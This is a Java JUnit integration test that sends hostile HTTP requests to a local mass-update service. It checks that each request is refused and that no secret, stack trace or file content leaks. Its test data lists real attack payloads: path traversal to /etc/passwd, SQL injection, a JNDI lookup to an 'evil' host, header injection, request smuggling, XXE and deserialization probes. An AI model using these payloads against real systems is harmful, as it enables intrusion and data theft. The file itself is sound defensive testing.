package io.github.camelzoho.massupdate.service;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.net.SocketException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Collections;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.Stream;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import static org.assertj.core.api.Assertions.assertThat;

/** What a scanner of weaknesses sends, byte by byte: each is refused, or taken for what it is, and nothing breaks or leaks. */
class HostileRequestsIT {

    private static final String SECRET = "a-secret-that-must-not-leak";
    private static final String JSON = "Content-Type: application/json\r\n";

    @TempDir
    static Path directory;

    private static ServiceProcess service;

    @BeforeAll
    static void start() throws IOException {
        service = ServiceProcess.withoutPolling(directory, Map.of("ZOHO_ACCESS_TOKEN", SECRET, "QUARKUS_HTTP_READ_TIMEOUT", "2s",
                "QUARKUS_HTTP_IDLE_TIMEOUT", "4s"))
                .start().awaitReady();
    }

    @AfterAll
    static void stop() throws InterruptedException {
        service.close();
    }

    @AfterEach
    void shouldStillBeThere() throws Exception {
        assertThat(service.send(service.request("/q/health/ready").GET()).statusCode()).isEqualTo(200);
        assertThat(Files.readString(service.log())).doesNotContain(SECRET, "\n\tat ");
    }

    static Stream<Arguments> requests() {
        return Stream.of(
                get("a path that leaves the page's folder", "/page/../../../../etc/passwd", 404),
                get("the same, encoded", "/page/%2e%2e/%2e%2e/%2e%2e/etc/passwd", 404),
                get("the same, encoded twice", "/page/%252e%252e/%252e%252e/application.properties", 404),
                get("the same, with backslashes", "/page/..%5c..%5capplication.properties", 404),
                get("a settings file", "/application.properties", 404),
                get("a class", "/io/github/camelzoho/massupdate/service/Secrets.class", 404),
                get("a broken escape", "/jobs/%zz/Leads/1", 400),
                get("a null byte in a path", "/jobs/default/Leads/1%00", 404),
                get("a null byte in a filter", "/jobs?module=Leads%00", 200),
                get("SQL in a filter", "/jobs?module=Leads'%20OR%201=1--", 200),
                get("SQL in a cursor", "/jobs?after=';DROP%20TABLE%20massupdate_job--", 200),
                get("a cursor that is no cursor", "/jobs?after=%F0%9F%92%A9%FF", 200),
                get("a limit beyond numbers", "/jobs?limit=99999999999999999999", 400),
                get("a very long query", "/jobs?module=" + "x".repeat(100_000), 414),
                get("a template", "/jobs/default/${jndi:ldap:%2f%2fevil%2fx}/1", 400),
                Arguments.of("a very long header", head("GET", "/jobs", "X-Long: " + "x".repeat(100_000) + "\r\n"), 431),
                Arguments.of("a header in a header", head("GET", "/jobs?module=a%0d%0aSet-Cookie:%20x=1", ""), 200),
                Arguments.of("TRACE", head("TRACE", "/jobs", "X-Secret: 1\r\n"), 405),
                Arguments.of("a method that is none", head("FOO", "/jobs", ""), 405),
                Arguments.of("a method of another protocol", head("PROPFIND", "/", ""), 404),
                Arguments.of("a wrong method", head("PATCH", "/jobs/default/Leads/1", ""), 405),
                Arguments.of("no HTTP", "\u0016\u0003\u0001 hello\r\n\r\n", 400),
                Arguments.of("two lengths", "POST /jobs HTTP/1.1\r\nHost: localhost\r\n" + JSON
                        + "Content-Length: 2\r\nContent-Length: 5\r\n\r\n[]", 400),
                Arguments.of("a length beside chunks", "POST /jobs HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + JSON
                        + "Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n[]\r\n0\r\n\r\n", 400),
                Arguments.of("a negative length", head("POST", "/jobs", JSON + "Content-Length: -1\r\n"), 400),
                post("JSON that breaks off", "[{\"module\":\"Leads\",", 400),
                post("JSON that is too deep", "[".repeat(100_000), 400),
                post("a number that is too long", "[" + "9".repeat(100_000) + "]", 400),
                post("no UTF-8", "[{\"module\":\"\u00ff\u00fe\"}]", 400),
                post("a null byte in a name", "[{\"module\":\"Le\\u0000ads\",\"jobId\":\"1\"}]", 202),
                post("a name in a name", "[{\"module\":\"../Leads\",\"jobId\":\"1\"}]", 202),
                post("an object where a text belongs", "[{\"module\":{\"$gt\":\"\"},\"jobId\":{}}]", 202),
                post("a wish for a class", "{\"@class\":\"javax.naming.InitialContext\",\"module\":\"x\"}", 202),
                Arguments.of("a body that is too large", head("POST", "/jobs", JSON + "Content-Length: 9000000\r\n"), 413),
                Arguments.of("XML", body("Content-Type: application/xml\r\n", "<!DOCTYPE x SYSTEM 'file:///etc/passwd'><x/>"), 415));
    }

    private static Arguments get(String what, String path, int status) {
        return Arguments.of(what, head("GET", path, ""), status);
    }

    private static Arguments post(String what, String json, int status) {
        return Arguments.of(what, body(JSON, json), status);
    }

    private static String head(String method, String path, String headers) {
        return method + " " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + headers + "\r\n";
    }

    private static String body(String headers, String text) {
        return head("POST", "/jobs", headers + "Content-Length: " + text.length() + "\r\n") + text;
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("requests")
    void should_answer(String what, String request, int status) throws IOException {
        String answer = exchange(request);

        assertThat(answer).matches("(?s)HTTP/1\\.[01] %d .*".formatted(status));
        assertThat(answer).doesNotContain(SECRET, "Exception", "\tat ", "root:", "Set-Cookie");
        if (status >= 400 && answer.contains("Content-Security-Policy")) {
            assertThat(answer).contains("application/problem+json", "\"detail\"");
        }
    }

    /** Sends bytes of these characters, and reads until the service closes the connection. */
    private static String exchange(String request) throws IOException {
        try (Socket socket = connect()) {
            try {
                socket.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
            } catch (SocketException e) {
                // refused before all was sent: the answer is there to be read
            }
            return new String(readAll(socket.getInputStream()), StandardCharsets.ISO_8859_1);
        }
    }

    private static byte[] readAll(InputStream in) throws IOException {
        ByteArrayOutputStream read = new ByteArrayOutputStream();
        try {
            in.transferTo(read);
        } catch (SocketException e) {
            // reset by a service that had not read everything
        }
        return read.toByteArray();
    }

    private static Socket connect() throws IOException {
        Socket socket = new Socket(InetAddress.getLoopbackAddress(), service.port());
        socket.setSoTimeout((int) Duration.ofSeconds(20).toMillis());
        return socket;
    }

    /** Many at once, since the answer to a stalled body and the closing of its connection overtake each other. */
    @Test
    void should_drop_those_who_send_slower_than_they_may() throws Exception {
        try (Socket headers = connect()) {
            headers.getOutputStream().write("GET /jobs HTTP/1.1\r\nHost: loc".getBytes(StandardCharsets.US_ASCII));

            ExecutorService senders = Executors.newFixedThreadPool(16);
            try {
                Callable<String> stalled = () -> exchange(head("POST", "/jobs", JSON + "Content-Length: 100\r\n") + "[{");
                for (Future<String> answer : senders.invokeAll(Collections.nCopies(16, stalled))) {
                    assertThat(answer.get()).matches("(?s)|HTTP/1.1 408 .*did not arrive whole.*");
                }
            } finally {
                senders.shutdown();
            }
            assertThat(readAll(headers.getInputStream())).isEmpty();
        }
    }
}
